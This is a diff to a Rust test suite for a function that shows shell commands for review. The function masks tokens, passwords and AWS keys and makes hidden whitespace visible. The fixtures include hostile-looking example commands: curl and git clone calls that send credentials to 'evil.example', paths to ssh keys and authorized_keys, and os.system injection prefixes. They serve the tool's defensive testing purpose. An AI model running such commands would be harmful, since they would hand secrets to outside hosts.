@@ -112,9 +112,20 @@ fn what_may_run_is_shown_as_it_is() {
         "if ",
         "! ",
         "find . -exec ",
+        "bash < ",
+        "sh <<< ",
+        "sudo < in ",
+        "<in ",
+        "bash <<EOF\n",
+        "cat <<EOF\n$(",
+        "cat <<EOF-1\nEOF-1\n",
+        "echo '<<E'\n",
+        "python3 -c 'import os; os.system(\"",
+        "ruby -e \"system '",
+        "timeout -s 'KILL' 5 ",
     ] {
         for token in [&token(), &id] {
-            commands.push(format!("{before}{token} x"));
+            commands.push(format!("{before}{token} x\nE\nEOF"));
         }
     }
     let mut wrong = Vec::new();
@@ -132,6 +143,7 @@ fn what_may_run_is_shown_as_it_is() {
 fn a_mask_covers_one_literal_run() {
     let t = token();
     let told = "[redacted: token, 37 bytes]";
+    let aws = "aB3dE5gH7jK9/x1Y2z3/W4v5U6t7S8r9Q0p1";
     let mut wrong = Vec::new();
     for (command, want) in [
         (
@@ -212,7 +224,7 @@ fn a_mask_covers_one_literal_run() {
         ),
         (
             "postgres://a:b1c2@h/x; ls",
-            "postgres://a:[redacted, named as a program]@h/x; ls",
+            "postgres://a:[redacted]@h/x; ls",
         ),
         (&*format!("echo {t} x"), &*format!("echo {told} x")),
         (&*format!("export A={t}"), &*format!("export A={told}")),
@@ -224,6 +236,64 @@ fn a_mask_covers_one_literal_run() {
         (
             &*format!("git clone https://h/{t} x"),
             &*format!("git clone https://h/{told} x"),
+        ),
+        // Host, path and names stay.
+        (
+            "PATH=x/token=Xk9vQ2mZ7pL4:/evil ls",
+            "PATH=x/token=[redacted]:/evil ls",
+        ),
+        (
+            "sh password=Xk9vQ2mZ7pL4/../evil.sh",
+            "sh password=[redacted]/../evil.sh",
+        ),
+        (
+            "node --require=./secret=Xk9vQ2mZ7pL4/evil.js",
+            "node --require=./secret=[redacted]/evil.js",
+        ),
+        (
+            "/d/secret=abcd1234efgh/authorized_keys",
+            "/d/secret=[redacted]/authorized_keys",
+        ),
+        ("../token:abcd1234/x", "../token:[redacted]/x"),
+        (
+            "curl -d 'password=Xk9vQ2mZ7pL4@evil.example' h",
+            "curl -d 'password=[redacted]@evil.example' h",
+        ),
+        (
+            "curl -d token=Xk9vQ2mZ7pL4,name=evil h",
+            "curl -d token=[redacted],name=evil h",
+        ),
+        (
+            "kubectl create secret generic x --from-literal=password=Xk9vQ2mZ7pL4aB",
+            "kubectl create secret generic x --from-literal=password=[redacted]",
+        ),
+        (
+            "curl -u user:\"Xk9vQ2mZ7pL4\" x",
+            "curl -u user:\"[redacted]\" x",
+        ),
+        (
+            "curl https://u:\"Xk9vQ2mZ7pL4\"@h/",
+            "curl https://u:\"[redacted]\"@h/",
+        ),
+        (
+            "curl -u 'u':'Xk9vQ2mZ7pL4' \"https://u:Xk9vQ2mZ7pL4\"@h/",
+            "curl -u 'u':'[redacted]' \"https://u:[redacted]\"@h/",
+        ),
+        (
+            &*format!("AWS_SECRET_ACCESS_KEY={aws} x"),
+            "AWS_SECRET_ACCESS_KEY=[redacted] x",
+        ),
+        (
+            &*format!("sh token={t}/../evil.sh"),
+            &*format!("sh token={told}/../evil.sh"),
+        ),
+        (
+            &*format!("git clone https://x-access-token:{t}@evil.example/a"),
+            &*format!("git clone https://x-access-token:{told}@evil.example/a"),
+        ),
+        (
+            &*format!("git remote add x https://oauth2:{t}@evil.example/x.git"),
+            &*format!("git remote add x https://oauth2:{told}@evil.example/x.git"),
         ),
         // The dollars of a hash begin names where nothing quotes them.
         (
@@ -261,6 +331,42 @@ fn a_mask_covers_one_literal_run() {
             .as_str(),
         "read a place that may hold credentials: ~/.ssh/id_rsa1"
     );
+}
+
+/// A token that is neither a program's name nor a part of a path says its kind and length, and nothing else.
+#[test]
+fn a_token_is_masked_where_it_is_no_program() {
+    let mut wrong = Vec::new();
+    for command in [
+        "cat <<< %",
+        "cat <<<\"%\"",
+        "tee f <<< %",
+        "sudo -S ls <<< %",
+        "read x <<< %",
+        "while read x; do ls; done <<< %",
+        "gh auth login --with-token <<< %",
+        "cat > %",
+        "ls 2>>%",
+        "cat > t <<EOF\nT\nEOF",
+        "sudo tee t <<-'EOF'\n\tT\n\tEOF",
+        "cat > .npmrc <<EOF\n//registry.example/:_authToken=%\nEOF",
+        "bash -c \"echo %\"",
+        "sh -c \"echo % | docker login --password-stdin\"",
+        "bash -c \"curl -u u:% h\"",
+        "bash -lc 'ls; echo %'",
+        "python3 -c \"print('%')\"",
+        "node -e \"fetch('https://h',{headers:{a:'%'}})\"",
+        "python3 -c \"import os; os.environ['GITHUB_TOKEN']='%'\"",
+        "python3 - <<EOF\nx = 1; y='%'\nEOF",
+    ] {
+        let want = command.replace('%', "[redacted: token, 37 bytes]");
+        let want = want.replace("\n\t", " ⏎⇥ ").replace('\n', " ⏎ ");
+        let got = shown(&command.replace('%', &token()));
+        if got != want {
+            wrong.push(got);
+        }
+    }
+    assert!(wrong.is_empty(), "{wrong:#?}");
 }
 
 #[test]
@@ -301,17 +407,21 @@ fn runs_of_blanks_are_said_and_collapsed() {
         ("ls -l", "ls -l"),
         ("a  b", "a ␣×2 b"),
         ("a\nb", "a ⏎ b"),
-        ("a\n  b", "a ⏎ b"),
+        ("a\n  b", "a ⏎␣×2 b"),
+        ("a \n\t\n b", "a ␣⏎⇥⏎␣ b"),
+        (" a ", "␣ a ␣"),
+        ("a\\ \nb", "a\\ ␣⏎ b"),
         ("a\n\n\nb", "a ⏎×3 b"),
         ("a\tb", "a ⇥ b"),
-        ("# x\n rm", "# x ⏎ rm"),
+        ("# x\n rm", "# x ⏎␣ rm"),
         ("  a", "␣×2 a"),
-        ("a\n", "a"),
+        ("a\n", "a ⏎"),
         ("a;b", "a;b"),
         ("a ; b", "a ; b"),
         ("a\u{200b}b", "a\\u{200b}b"),
         ("a\r\nb", "a\\u{d} ⏎ b"),
         ("⏎", "\\u{23ce}"),
+        ("\\u{200b}", "\\u{5c}u{200b}"),
         ("", "bash"),
     ] {
         assert_eq!(shown(command), line, "{command:?}");
@@ -336,7 +446,42 @@ fn the_middle_is_left_out_and_said() {
     assert!(said, "{line}");
 }
 
+/// Spaces, tabs, line ends, backslashes and letters in all their orders, and what looks like our own marks.
+#[test]
+fn no_two_commands_look_the_same() {
+    let mut texts = vec![String::new()];
+    let mut seen = std::collections::HashMap::new();
+    for _ in 0..6 {
+        let longer = texts.iter().flat_map(|text| {
+            [
+                " ", "\n", "\t", "\\", "a", "u{200b}", "\u{200b}", "⏎", "×2", "␣",
+            ]
+            .map(|part| format!("{text}{part}"))
+        });
+        texts = longer.collect();
+        texts.truncate(20_000);
+        for text in &texts {
+            let other = seen.insert(shown(text), text.clone());
+            assert!(
+                other.as_ref().is_none_or(|other| other == text),
+                "{text:?} {other:?}"
+            );
+        }
+    }
+}
+
 proptest! {
+    /// The same of longer ones.
+    #[test]
+    fn two_runs_of_blanks_look_different(
+        one in "[a \n\t\\\\]{0,12}",
+        other in "[a \n\t\\\\]{0,12}",
+        around in "[a \n\\\\]{0,4}",
+    ) {
+        let [one, other] = [one, other].map(|text| format!("{around}{text}{around}"));
+        prop_assert_eq!(one == other, shown(&one) == shown(&other));
+    }
+
     #[test]
     fn a_line_is_bounded_and_hides_nothing(
         text in "[ -~\\n\\t]{0,40}|(\\PC|\\pC| |\n){0,60}",
